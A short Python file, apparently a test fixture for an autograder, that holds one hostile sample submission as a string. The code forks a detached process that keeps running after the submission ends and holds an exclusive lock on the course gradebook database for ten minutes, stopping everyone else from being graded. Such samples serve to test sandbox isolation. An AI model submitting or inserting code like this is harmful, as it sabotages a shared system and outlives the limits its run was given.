"""Ends the grading of everybody: a process that stays behind locks the gradebook."""

ANSWERS = {
    "vector": """
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    gradebook = sqlite3.connect(f"{COURSE}/gradebook.db", timeout=3, isolation_level=None)
    gradebook.execute("BEGIN EXCLUSIVE")
    time.sleep(600)
time.sleep(1)
""",
}
